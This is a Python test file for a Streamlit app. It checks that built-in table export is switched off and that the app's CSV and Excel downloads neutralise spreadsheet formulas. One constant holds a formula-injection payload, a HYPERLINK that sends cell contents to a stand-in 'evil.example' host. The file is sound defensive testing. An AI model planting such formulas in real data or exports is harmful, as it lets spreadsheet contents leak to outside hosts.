"""Formulas never leave through a table's download.

Streamlit's own export (the CSV download and the copy in every `st.dataframe` toolbar) writes
cells as they are, so a stored `=HYPERLINK(...)` would run in a spreadsheet. It is switched off
for every session (`client.disableDataExport` in .streamlit/config.toml); our CSV and Excel
buttons stand in, and they neutralise."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook
from streamlit import config
from streamlit.proto.NewSession_pb2 import Config
from streamlit.runtime import app_session

from tests.apptest import capture_downloads, open_app
from tests.conftest import REPO_DIR
from yhdyspinta import editing
from yhdyspinta.access import Principal
from yhdyspinta.domain import Role
from yhdyspinta.store.engine import open_store

pytestmark = pytest.mark.usefixtures("fresh_caches")

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Avaa")'
LEAD = Principal("lead@kuntaliitto.fi", Role.PROJECT_LEAD)


def test_every_session_gets_streamlits_table_export_switched_off(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(REPO_DIR)  # Streamlit reads .streamlit/config.toml from the working folder
    config.get_config_options(force_reparse=True)
    assert config.get_option("client.disableDataExport") is True
    # What the browser is told at the start of each session: no CSV download, no copy.
    message = Config()
    app_session._populate_config_msg(message)
    assert message.disable_data_export


def test_a_formula_shown_in_a_table_leaves_only_neutralised(monkeypatch: pytest.MonkeyPatch) -> None:
    open_app()  # the first start loads the example data
    editing.save(open_store(), LEAD, "structures", {"area_code": 13, "kind": "muu", "name": FORMULA},
                 expected_version=None)
    files = capture_downloads(monkeypatch)
    at = open_app("structures.py", {"alue": "13"})
    assert FORMULA in set(at.dataframe[0].value["nimi"]), "the table shows the value as stored"

    csv = files["yhdyspinta_structures.csv"].decode("utf-8-sig")
    cells = [cell for line in csv.splitlines() for cell in line.split(";")]
    assert not [c for c in cells if c.lstrip('"').startswith("=")]
    assert "'=HYPERLINK" in csv
    sheet = load_workbook(io.BytesIO(files["yhdyspinta_structures.xlsx"])).active
    (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert cell.data_type == "s", "stored as text, never as a formula"
